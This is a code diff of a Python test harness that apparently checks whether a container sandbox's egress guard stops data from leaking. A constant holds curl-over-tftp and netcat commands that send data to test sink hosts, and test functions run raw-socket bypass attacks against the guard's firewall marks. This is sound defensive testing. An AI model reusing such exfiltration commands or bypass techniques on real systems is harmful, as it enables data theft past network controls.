@@ -9,7 +9,7 @@ from collections.abc import Iterator
 from pathlib import Path
 
 from . import plan
-from .engine import IMAGE, MACHINE_BINDS, SANDGATE, Engine
+from .engine import IMAGE, MACHINE_BINDS, SANDGATE, Containers, Engine
 from .internet import Internet
 from .processes import wait_until
 
@@ -24,7 +24,7 @@ SEND = f"curl -s -m 1 tftp://{plan.SINK4}:4444/leaked; echo leaked | nc -w 1 {pl
 """A shell's words that send to sinks, as a datagram and over TCP."""
 
 
-def show_leak(internet: Internet, docker: Engine, *command: str) -> None:
+def show_leak(internet: Internet, docker: Containers, *command: str) -> None:
     """Shows that :data:`SEND`, of which the command is made, reaches both sinks from a container that nobody guards."""
     free = docker.docker("run", "--detach", "--cap-drop", "ALL", IMAGE, *command)
     services: set[str] = set()
@@ -34,7 +34,7 @@ def show_leak(internet: Internet, docker: Engine, *command: str) -> None:
         return services == {"tcp-sink", "udp-sink"}
 
     wait_until(arrived, "what is sent where nobody guards", 30)
-    docker.docker("rm", "--force", free)
+    docker.remove(free)
     internet.forget()
 
 
@@ -47,12 +47,12 @@ def ask_dockers_resolver(docker: Engine, container: str, holder: str, name: str)
     return {way: address for way, _, address in (line.partition(" ") for line in done.stdout.splitlines())}
 
 
-def attack_with_raw_sockets(docker: Engine, container: str) -> None:
+def attack_with_raw_sockets(docker: Containers, container: str) -> None:
     """T1 and T10: frames that go behind every inet chain, and every mark that somebody might trust."""
     mode = docker.inspect(container, "{{.HostConfig.NetworkMode}}")
     holder = mode.removeprefix("container:") if mode.startswith("container:") else container
     address = docker.inspect(holder, ADDRESS)
-    neighbour = docker.namespace.check("cat", "/sys/class/net/docker0/address").strip()
+    neighbour = docker.namespace.check("cat", f"/sys/class/net/{docker.bridge}/address").strip()
     frames = [("packet", bypass, address, plan.SINK4, "4444", neighbour) for bypass in ("queue", "bypass")]
     for words in (*frames, ("marks", plan.SINK4, "4444")):
         docker.run(container, "/usr/bin/python3", "/attacks/shared_namespace.py", *words, timeout=60)
@@ -75,7 +75,9 @@ def user_defined_network(docker: Engine) -> Iterator[str]:
 class Guarded:
     """A sidecar container with what runs in its network."""
 
-    def __init__(self, internet: Internet, docker: Engine, policy: object, *options: str, image: str = SANDGATE) -> None:
+    def __init__(
+        self, internet: Internet, docker: Containers, policy: object, *options: str, image: str = SANDGATE
+    ) -> None:
         self.internet, self.docker = internet, docker
         rules = f"OPENSANDBOX_EGRESS_RULES={json.dumps(policy)}"
         words = ("run", "--detach", "--cap-add", "NET_ADMIN", "--env", rules, *options, image)
@@ -112,10 +114,10 @@ class Guarded:
         return container
 
     def remove(self) -> None:
-        self.docker.docker("rm", "--force", *self.sandboxes, self.sidecar)
+        self.docker.remove(*self.sandboxes, self.sidecar)
 
 
-def reaches(docker: Engine, container: str, name: str, *options: str) -> bool:
+def reaches(docker: Containers, container: str, name: str, *options: str) -> bool:
     """Whether a program in a container gets a page of a web server."""
     page = docker.run(container, "/usr/bin/curl", "-sS", "-m", "4", *options, f"http://{name}/")
     return f"served {name}" in page.stdout
